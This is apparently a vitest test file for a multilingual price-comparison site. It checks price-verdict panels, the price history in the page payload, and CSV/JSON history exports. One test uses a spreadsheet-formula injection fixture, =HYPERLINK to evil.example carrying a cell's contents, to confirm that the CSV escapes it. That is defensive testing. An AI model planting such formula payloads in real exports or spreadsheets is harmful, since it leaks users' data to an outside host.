import type { CheerioAPI } from 'cheerio';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Site } from '../../sites/index.ts';
import { isBuyable, isAvailability } from '../../src/domain/availability.ts';
import { convertMoney } from '../../src/domain/money.ts';
import { lineMinutes } from '../../src/domain/history.ts';
import { formatMoney } from '../../src/lib/money.ts';
import {
  articlePayload as payload,
  BIH,
  FIXTURE_DIST as DIST,
  fixtureFile as file,
  fixturePage as page,
  MNE,
} from './fixture-output.test-kit.ts';
import { HISTORY_COLUMNS } from './open-data.ts';

/** The price check, the history in the payload and the open data on the fixture sites built by `scripts/fixture/build-fixture.ts`. */

const GALAXY = '/telefoni/mobilni/pametni-telefoni/1-samsung-galaxy-s24-128-gb';
const IPHONE = '/telefoni/mobilni/pametni-telefoni/2-apple-iphone-15-128-gb';
const HOSTILE = '/telefoni/mobilni/pametni-telefoni/3-hostile-phone';
const NOKIA = '/telefoni/mobilni/klasicni-telefoni/4-nokia-3310';
const LENOVO = '/racunari/prenosni/laptopovi/5-lenovo-ideapad-slim-3';

/** RFC 4180: quoted fields may hold commas, CRLF and doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i] as string;
    if (quoted && char === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && char === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i += 1;
    } else {
      field += char;
    }
  }
  expect(field, 'the file ends with CRLF').toBe('');
  return rows;
}

function records(site: Site, path: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(file(site, path, 'history.csv'));
  expect(header).toEqual([...HISTORY_COLUMNS]);
  return rows.map((row) => Object.fromEntries(row.map((value, index): [string, string] => [HISTORY_COLUMNS[index] ?? '', value])));
}

const figure = ($: CheerioAPI, index: number) => $('.price-figures dd').eq(index).text();

describe('"Is this a good price?" in the prerendered HTML', () => {
  test("the Galaxy's real drop is the lowest in a year, with the numbers behind it", () => {
    const $ = page(MNE, `/en${GALAXY}`);
    expect($('.price-check h2#price-check').text()).toBe('Is this a good price?');
    expect($('.price-check .verdict').attr('class')).toBe('verdict lowest-in-year');
    expect($('.price-check .verdict').text()).toBe('Lowest in a year');
    expect($('.verdict-reason').text()).toBe('€769.00 is at or below the lowest price of the 365 days before today (€899.00).');
    expect($('.price-figures dt').length).toBe(5);
    expect([0, 1, 2, 3].map((index) => figure($, index))).toEqual(['€769.00', '€899.00', '€899.00', '€899.00']);
    expect($('.price-figures dd').eq(4).find('.price').text()).toBe('€769.00');
    expect($('.low-when').text()).toBe('11/20/2026');
    expect($('.low-where').text()).toBe('Mega Market');
    expect($('.price-check details.method summary').text()).toBe('How we decide');
    // The method's paragraph is written when opened (e2e/price-check.spec.ts), not into every page.
    expect($('.price-check details.method p')).toHaveLength(0);
  });

  test("the iPhone's sale after a raise is a good price: within 5 % of its 90-day low", () => {
    const $ = page(MNE, `/en${IPHONE}`);
    expect($('.verdict').attr('class')).toBe('verdict good-price');
    expect($('.verdict-reason').text()).toBe('€679.00 is at most 5% above the lowest price of the 90 days before today (€649.00).');
    expect($('.low-when').text()).toBe('08/01/2026');
  });

  test("the Lenovo after a rise is higher than usual; its September out of stock is a gap in the payload's line", () => {
    const $ = page(MNE, `/de${LENOVO}`);
    expect($('.verdict').attr('class')).toBe('verdict higher-than-usual');
    expect($('.verdict').text()).toBe('Höher als üblich');
    expect($('.verdict-reason').text()).toContain(`(${formatMoney({ minor: 49900, currency: 'EUR' }, 'de')})`);
    const [line] = payload(MNE, `/de${LENOVO}`).history.shops;
    expect(lineMinutes(line?.points ?? []).map(([minute, price]) => [new Date(minute * 60_000).toISOString().slice(0, 10), price])).toEqual(
      [
        ['2026-06-01', 49900],
        ['2026-09-01', null],
        ['2026-10-01', 49900],
        ['2026-11-20', 54900],
      ],
    );
  });

  test("the payload's history: a line per shop by id, prices converted to the site's currency, out of stock as null", () => {
    const { history } = payload(MNE, GALAXY);
    expect(history.today).toBe('2026-11-20');
    const minute = (iso: string) => Date.parse(iso) / 60_000;
    expect(history.shops).toEqual([
      { shopId: 'mega-me', name: 'Mega Market', converted: false, points: [[minute('2026-11-20T06:00:00.000Z'), 76900]] },
      {
        ...{ shopId: 'tehno-me', name: 'Tehno ME', converted: false },
        points: [
          [minute('2026-10-01T06:00:00.000Z'), 89900],
          [minute('2026-11-20T06:00:00.000Z') - minute('2026-10-01T06:00:00.000Z'), 79900],
        ],
      },
      { shopId: 'uvoz-ba', name: 'Uvoz BA', converted: true, points: [[minute('2026-11-20T06:00:00.000Z'), null]] },
    ]);
    // On the Bosnia site its shops price in BAM: nothing converted.
    expect(payload(BIH, GALAXY).history.shops.map((shop) => [shop.shopId, shop.converted, shop.points[0]?.[1]])).toEqual([
      ['bosna-shop', false, 149900],
      ['tehno-ba', false, 155000],
    ]);
  });

  test('with 15 days of history the Nokia has no verdict, and says so', () => {
    const $ = page(BIH, `/ba${NOKIA}`);
    expect($('.verdict').attr('class')).toBe('verdict none');
    expect($('.verdict').text()).toBe('Još nema ocjene: imamo 15 od 30 dana historije cijena koliko je potrebno za ocjenu.');
    // The 30 days before today hold the 15 of its older price, and from 14 Nov Bosna Shop's 105.00 KM
    // (stale now, but a price a visitor could pay then).
    expect(figure($, 1)).toBe(formatMoney({ minor: 10500, currency: 'BAM' }, 'ba'));
  });

  test('the panel is in every locale, in its language', () => {
    const titles = ['', '/me', '/ba', '/en', '/ru', '/de', '/tr'].map((prefix) =>
      page(MNE, `${prefix}${GALAXY}`)('.price-check h2').text(),
    );
    expect(new Set(titles).size).toBe(7);
    expect(page(MNE, `/ru${GALAXY}`)('.verdict').text()).toBe('Минимум за год');
  });
});

describe('open data: history.csv and history.json beside the page', () => {
  test('are linked from every locale of the page and written once, unprefixed', () => {
    for (const prefix of ['', '/en', '/tr']) {
      const $ = page(MNE, `${prefix}${IPHONE}`);
      expect($(`.open-data a[href="${IPHONE}/history.csv"]`).length).toBe(1);
      expect($(`.open-data a[href="${IPHONE}/history.json"]`).length).toBe(1);
    }
    expect(existsSync(join(DIST, MNE.domain, 'en', IPHONE, 'history.csv'))).toBe(false);
  });

  test('one row per change, ISO times, amounts with two decimals, the domain availability values', () => {
    expect(records(MNE, IPHONE)).toEqual([
      {
        date: '2026-08-01T06:00:00.000Z',
        shop: 'Tehno ME',
        price: '649.00',
        sale_price: '',
        shipping: '0.00',
        currency: 'EUR',
        availability: 'in_stock',
      },
      {
        date: '2026-10-25T06:00:00.000Z',
        shop: 'Tehno ME',
        price: '799.00',
        sale_price: '',
        shipping: '0.00',
        currency: 'EUR',
        availability: 'in_stock',
      },
      {
        date: '2026-11-20T06:00:00.000Z',
        shop: 'Tehno ME',
        price: '799.00',
        sale_price: '679.00',
        shipping: '0.00',
        currency: 'EUR',
        availability: 'in_stock',
      },
    ]);
    for (const row of records(MNE, LENOVO)) expect(isAvailability(row.availability as string)).toBe(true);
  });

  test("the CSV's lowest buyable price, in the site's currency, is the all-time low the page shows", () => {
    for (const [site, path] of [
      [MNE, GALAXY],
      [MNE, LENOVO],
      [BIH, GALAXY],
      [BIH, NOKIA],
    ] as const) {
      const lowest = Math.min(
        ...records(site, path)
          .filter((row) => isBuyable(row.availability as 'in_stock'))
          .map((row) => {
            const effective = { minor: Math.round(Number(row.sale_price || row.price) * 100), currency: row.currency as 'EUR' };
            return convertMoney(effective, site.currency).minor;
          }),
      );
      const shown = payload(site, path).priceCheck.allTimeLow;
      expect(shown?.price.minor, `${site.domain}${path}`).toBe(lowest);
      expect(page(site, `/en${path}`)('.price-figures dd').eq(4).find('.price').text()).toBe(
        formatMoney({ minor: lowest, currency: site.currency }, 'en'),
      );
    }
  });

  test('a shop name that starts like a formula is text in the CSV; JSON keeps it and the rows as they are', () => {
    const shops = records(MNE, HOSTILE).map((row) => row.shop);
    expect(shops).toContain('\'=HYPERLINK("https://evil.example/?d="&A1,"Shop")');
    const json = JSON.parse(file(MNE, HOSTILE, 'history.json')) as {
      site: string;
      product: { path: string };
      rows: Record<string, unknown>[];
    };
    expect(json.site).toBe(MNE.domain);
    expect(json.product.path).toBe(HOSTILE);
    expect(json.rows.map((row) => row.shop)).toContain('=HYPERLINK("https://evil.example/?d="&A1,"Shop")');
    expect(json.rows[0]).toMatchObject({ date: '2026-11-20T06:00:00.000Z', sale_price: null, currency: 'EUR', availability: 'in_stock' });
  });
});
